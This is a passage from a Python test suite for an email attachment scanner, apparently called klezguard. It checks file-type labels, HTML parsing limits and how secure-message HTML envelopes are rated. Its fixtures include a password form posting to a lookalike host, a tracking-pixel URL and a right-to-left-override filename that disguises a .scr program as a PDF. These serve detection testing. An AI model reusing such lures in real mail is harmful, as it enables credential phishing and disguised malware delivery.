    for page in (b"<a " * 80000, b"<input " * 30000, b"<!--a-->" * 250 + b"zz", b"<meta http-equiv=refresh " * 9000):
        start = time.perf_counter()
        check(attach("page.html", "text/html", page))
        assert time.perf_counter() - start < 1.0


# --- wording: articles and what the content is ---------------------------------------------------------


@pytest.mark.parametrize(
    ("label", "expected"),
    [
        ("OneNote file", "a OneNote file"),
        ("SVG picture", "an SVG picture"),
        ("HTML file", "an HTML file"),
        ("MSI file", "an MSI file"),
        ("RAR archive", "a RAR archive"),
        ("PDF document", "a PDF document"),
        ("Excel add-in", "an Excel add-in"),
        ("unusual archive", "an unusual archive"),
        ("Windows program", "a Windows program"),
        ("mp4 file", "an mp4 file"),
        ("user guide", "a user guide"),
        ("hour-long video", "an hour-long video"),
    ],
)
def test_article_goes_by_sound(label, expected):
    from klezguard.rules.attachments import _a

    assert _a(label) == expected


def test_onenote_file_gets_the_right_article():
    data = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\x00" * 300
    f = one(check(attach("DeliveryNote.one", "application/octet-stream", data)), "attachment.dangerous_type")
    assert "is a OneNote file" in f.explanation and "an OneNote" not in f.explanation + f.title
    assert f.evidence["Content"] == "OneNote file"


def test_office_file_content_is_named_for_people():
    vba = ole_with_macro('Sub FormatTable()\n  Range("A1").Bold = True\nEnd Sub\n', lure=False)
    data = zip_of({**XLSX_PARTS, "xl/vbaProject.bin": vba})
    f = one(check(attach("Prices.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", data)),
            "attachment.office_macro")
    assert f.evidence["Content"] == "Office file (zip-based)"


def test_zip_archive_and_opendocument_labels():
    assert sniff(zip_of({"Invoice.pdf": b"%PDF-1.4"})).label == "zip archive"
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    assert sniff(bio.getvalue()).label == "OpenDocument file (zip-based)"
    assert sniff(zip_of({"_rels/.rels": b"<Relationships/>", "word/document.xml": b"<w/>"})).label == (
        "Office file (zip-based)"
    )


# --- secure-message envelopes: real ones post to the secure-mail service ------------------------------

_ENVELOPE = (
    '<html><head><title>Secure Message</title><script>function go(){{document.forms[0].submit();}}</script></head>'
    '<body><form action="{action}" method="post"><p>Enter your password to open this secure message.</p>'
    '<input type="hidden" name="key" value="Xy1"><input type="password" name="password">'
    '<button onclick="go()">Open</button></form>{extra}</body></html>'
)


def envelope_mail(action="https://res.cisco.com/websafe/decrypt", extra="", confirmed=True):
    page = _ENVELOPE.format(action=action, extra=extra).encode()
    headers = [("Authentication-Results", auth(domain="carver-law.example"))] if confirmed else []
    return build(
        from_="Conveyancing <secure@carver-law.example>",
        subject="[SECURE] Completion statement",
        body="You have received a secure message. Open the attachment to read it.\n",
        attachments=[("securedoc_20261102.html", "text/html", page)],
        headers=headers,
    )


def test_secure_envelope_from_a_confirmed_sender_to_a_known_service_is_medium():
    result = check(envelope_mail(), context())
    f = one(result, "attachment.active_html")
    assert f.severity == "medium"
    assert "cisco.com, a known service for secure mail" in f.explanation


@pytest.mark.parametrize(
    ("kwargs", "why"),
    [
        ({"confirmed": False}, "sender not confirmed"),
        ({"action": "https://cisco-secure-msg.example.net/decrypt"}, "posts elsewhere"),
        ({"extra": '<img src="https://collect.example.net/p.gif">'}, "names another site"),
    ],
)
def test_secure_envelope_otherwise_stays_high_with_the_innocent_case_named(kwargs, why):
    f = one(check(envelope_mail(**kwargs), context()), "attachment.active_html")
    assert f.severity == "high", why
    assert "Some banks and law firms send real secure messages" in f.explanation
    assert "known service for secure mail" not in f.explanation


def test_login_page_that_is_no_envelope_gets_no_envelope_note():
    page = b'<html><form action="https://res.cisco.com/x"><input type="password"></form></html>'
    f = one(check(attach("Login.html", "text/html", page)), "attachment.active_html")
    assert f.severity == "high" and "secure messages" not in f.explanation


def test_a_program_behind_hidden_characters_is_named_as_the_user_sees_it():
    """The title shows what a mail program shows (invoice_rcs.pdf) and the text says what it really is."""
    raw = build(attachments=[("invoice_\u202efdp.scr", "application/octet-stream", b"MZ" + b"\0" * 64)])
    found = next(f for f in check(raw).findings if f.rule == "attachment.dangerous_type")
    assert found.title.startswith("invoice_rcs.pdf is ")
    assert "real name is invoice_[U+202E" in found.explanation
